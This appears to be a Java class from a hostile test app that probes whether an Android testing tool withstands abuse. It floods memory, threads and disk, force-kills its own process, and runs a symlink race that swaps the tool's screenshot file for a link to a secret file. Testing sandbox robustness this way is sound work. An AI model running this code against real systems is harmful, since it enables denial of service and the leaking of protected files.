package org.droidtest.hostile;

import android.app.Activity;
import java.io.File;
import java.io.FileOutputStream;
import java.lang.reflect.Field;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/** Attempts to take more than there is for an app, to end the process, and to change files while the tool reads them. */
final class Excess {
  private static final int PIECE = 64 << 20;
  /** More than any limit of a device lets it have. */
  private static final int PIECES = 96;
  private static final int THREADS = 6000;
  private static final int DISK_PIECES = 16;

  private Excess() {}

  static Escape.Attempt attempt(String name, Activity activity) {
    switch (name) {
      case "memory_direct": return () -> {
        List<ByteBuffer> all = new ArrayList<>();
        while (all.size() < PIECES) {
          all.add(ByteBuffer.allocateDirect(PIECE));
        }
        return true;
      };
      case "memory_unsafe": return Excess::memory;
      case "threads": return Excess::threads;
      case "disk": return () -> disk(activity.getFilesDir());
      case "exit": return () -> {
        System.exit(3);
        return false;
      };
      case "halt": return () -> {
        Runtime.getRuntime().halt(3);
        return false;
      };
      case "exit_reflected": return () -> {
        System.class.getMethod("exit", int.class).invoke(null, 3);
        return false;
      };
      case "swap": return () -> swap(Path.of(Aims.get("PICTURE")));
      default: return null;
    }
  }

  private static boolean memory() throws Exception {
    Class<?> type = Class.forName("sun.misc.Unsafe");
    Field field = type.getDeclaredField("theUnsafe");
    field.setAccessible(true);
    Object unsafe = field.get(null);
    List<Long> all = new ArrayList<>();
    try {
      while (all.size() < PIECES) {
        all.add((Long) type.getMethod("allocateMemory", long.class).invoke(unsafe, (long) PIECE));
      }
      return true;
    } finally {
      for (long each : all) {
        type.getMethod("freeMemory", long.class).invoke(unsafe, each);
      }
    }
  }

  private static boolean threads() throws Exception {
    AtomicInteger alive = new AtomicInteger();
    Object end = new Object();
    boolean[] over = {false};
    List<Thread> all = new ArrayList<>();
    try {
      for (int n = 0; n < THREADS; n++) {
        Thread thread = new Thread(() -> {
          alive.incrementAndGet();
          synchronized (end) {
            while (!over[0]) {
              try {
                end.wait();
              } catch (InterruptedException e) {
                return;
              }
            }
          }
        });
        thread.setDaemon(true);
        thread.start();
        all.add(thread);
      }
      return true;
    } finally {
      synchronized (end) {
        over[0] = true;
        end.notifyAll();
      }
    }
  }

  private static boolean disk(File folder) throws Exception {
    byte[] piece = new byte[PIECE];
    List<File> all = new ArrayList<>();
    try {
      while (all.size() < DISK_PIECES) {
        File file = new File(folder, "piece" + all.size());
        all.add(file);
        try (FileOutputStream out = new FileOutputStream(file)) {
          out.write(piece);
        }
      }
      return true;
    } finally {
      for (File each : all) {
        each.delete();
      }
    }
  }

  /** For as long as the process lives, the tool's picture of the screen is a link to the secret. */
  private static boolean swap(Path given) throws Exception {
    Path picture = Around.raw(given.toString());
    Path secret = Around.raw(Aims.get("SECRET"));
    Thread thread = new Thread(() -> {
      while (true) {
        try {
          Path link = picture.resolveSibling("link");
          Files.deleteIfExists(link);
          Files.createSymbolicLink(link, secret);
          Files.move(link, picture, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
        } catch (Exception e) {
          // The tool was faster.
        }
        Thread.yield();
      }
    });
    thread.setDaemon(true);
    thread.start();
    return true;
  }
}
